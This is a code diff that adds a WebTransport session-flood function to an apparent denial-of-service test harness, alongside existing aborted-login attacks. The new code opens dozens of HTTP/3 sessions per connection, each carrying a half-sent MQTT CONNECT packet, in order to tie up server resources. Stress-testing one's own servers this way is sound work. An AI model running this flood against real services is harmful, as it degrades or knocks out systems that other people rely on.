@@ -123,7 +123,33 @@ def half_headers_http3(site, seconds):
     return prepared(seconds, 20, lambda number: client(site, number, "https", "h3"), packets_of(frames), len(frames) // 64)
 
 
+def web_transport(site, seconds):
+    """160 sessions of WebTransport a second, 32 on a connection, each with half a CONNECT of MQTT."""
+    from aioquic.h3.connection import H3Connection
+
+    head = [(b":method", b"CONNECT"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/mqtt")]
+    head.append((b":protocol", b"webtransport"))
+    half, opened = wire.connect("w" * 60, "u" * 1_000, "p" * 1_000)[:-16], {"sessions": 0}
+
+    async def one(number):
+        made = await client(site, number, "https", "h3", datagrams=True)
+        http = H3Connection(made.quic, enable_webtransport=True)
+        made.transmit()
+        # The server's settings come before a session may begin.
+        await asyncio.sleep(0.05)
+        for _ in range(32):
+            session = made.quic.get_next_available_stream_id()
+            http.send_headers(session, head)
+            made.quic.send_stream_data(http.create_webtransport_stream(session), half)
+            opened["sessions"] += 1
+        made.transmit()
+
+    tried = rounds(seconds, 5, one)
+    return opened["sessions"] or tried
+
+
 ATTACKS = {
+    "sessions of WebTransport": web_transport,
     "aborted logins, HTTP/1.1": logins_http1,
     "aborted logins, HTTP/2": logins_http2,
     "aborted logins, HTTP/3": logins_http3,
